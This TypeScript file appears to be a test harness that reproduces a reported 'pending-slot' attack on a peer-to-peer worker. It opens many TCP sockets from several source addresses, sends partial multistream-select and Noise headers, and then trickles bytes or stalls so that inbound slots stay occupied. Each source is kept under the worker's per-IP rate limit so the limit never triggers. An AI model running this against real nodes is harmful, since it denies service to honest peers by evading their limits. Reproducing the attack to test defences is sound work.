/**
 * The pending-slot attack of issue 19, as the issue describes it: raw TCP sockets from tens
 * of source addresses, each of which sends the first bytes of multistream-select's header
 * and then either trickles one more byte every interval or goes silent, so the worker holds
 * it as an inbound connection mid-upgrade. A socket the worker closes is reopened, but no
 * source opens more than `opensPerSourcePerSecond` in any second: every source stays under
 * the worker's per-IP connection rate, so that limit never fires. Nothing here completes a
 * handshake; the attacker spends a socket and a few bytes per slot.
 */
import { connect } from 'node:net'
import type { Socket } from 'node:net'
import { lengthPrefixed, multistreamHeader } from './light-node.ts'
import type { SlotAttackCommand, SlotAttackEvent, SlotAttackStart, SlotAttackStats } from './protocol.ts'

/** A socket the worker closes this soon after connecting was refused at accept (guess: a loopback round trip is < 1 ms). */
const REFUSED_WITHIN_MS = 100
/** What a slot sends, all told: the header, then a proposal of Noise, then nothing. */
const SCRIPT = Buffer.concat([multistreamHeader(), lengthPrefixed('/noise\n')])

const reply = (message: SlotAttackEvent): void => { process.send?.(message) }

class SlotAttack {
  private readonly config: SlotAttackStart
  private readonly sockets = new Set<Socket>()
  private readonly opensBySource = new Map<string, number[]>()
  private readonly timers = new Set<NodeJS.Timeout>()
  private stopped = false
  readonly stats: SlotAttackStats = { opens: 0, closedByWorker: 0, refusedAtAccept: 0, heldMs: [], peakOpen: 0 }

  constructor (config: SlotAttackStart) {
    this.config = config
  }

  start (): void {
    let slot = 0
    for (const source of this.config.sources) {
      for (let k = 0; k < this.config.socketsPerSource; k++) this.open(source, slot++ % 2 === 0)
    }
  }

  get openNow (): number {
    return this.sockets.size
  }

  stop (): void {
    this.stopped = true
    for (const timer of this.timers) clearTimeout(timer)
    this.timers.clear()
    for (const socket of this.sockets) socket.destroy()
    this.sockets.clear()
  }

  private later (ms: number, run: () => void): void {
    const timer = setTimeout(() => { this.timers.delete(timer); run() }, ms)
    this.timers.add(timer)
  }

  /** Opens now if this source has opened fewer than its limit in the last second, else when it may. */
  private open (source: string, trickle: boolean): void {
    if (this.stopped) return
    const now = Date.now()
    const recent = (this.opensBySource.get(source) ?? []).filter((at) => now - at < 1000)
    if (recent.length >= this.config.opensPerSourcePerSecond) {
      this.opensBySource.set(source, recent)
      this.later((recent[0] ?? now) + 1000 - now + 1, () => { this.open(source, trickle) })
      return
    }
    recent.push(now)
    this.opensBySource.set(source, recent)
    this.stats.opens++
    const socket = connect({ host: this.config.host, port: this.config.port, localAddress: source })
    this.sockets.add(socket)
    this.stats.peakOpen = Math.max(this.stats.peakOpen, this.sockets.size)
    let connectedAt: number | undefined
    let sent = 0
    let trickler: NodeJS.Timeout | undefined
    socket.on('connect', () => {
      connectedAt = Date.now()
      sent = Math.min(this.config.firstBytes, SCRIPT.length)
      socket.write(SCRIPT.subarray(0, sent))
      if (!trickle) return
      trickler = setInterval(() => {
        if (sent >= SCRIPT.length) { clearInterval(trickler); return }
        socket.write(SCRIPT.subarray(sent, sent + 1))
        sent++
      }, this.config.trickleIntervalMs)
    })
    // The worker's multistream answer (its own header) is read and dropped.
    socket.on('data', () => {})
    socket.on('error', () => {})
    socket.on('close', () => {
      clearInterval(trickler)
      this.sockets.delete(socket)
      if (this.stopped) return
      this.stats.closedByWorker++
      const heldMs = connectedAt === undefined ? 0 : Date.now() - connectedAt
      if (heldMs < REFUSED_WITHIN_MS) this.stats.refusedAtAccept++
      else this.stats.heldMs.push(heldMs)
      this.open(source, trickle)
    })
  }
}

let attack: SlotAttack | undefined
process.on('message', (command: SlotAttackCommand) => {
  switch (command.type) {
    case 'start':
      attack = new SlotAttack(command)
      attack.start()
      break
    case 'status':
      reply({ type: 'status', open: attack?.openNow ?? 0 })
      break
    case 'stop':
      attack?.stop()
      reply({ type: 'stopped', ...(attack?.stats ?? { opens: 0, closedByWorker: 0, refusedAtAccept: 0, heldMs: [], peakOpen: 0 }) })
      break
  }
})
process.on('disconnect', () => { process.exit(0) })
reply({ type: 'ready' })
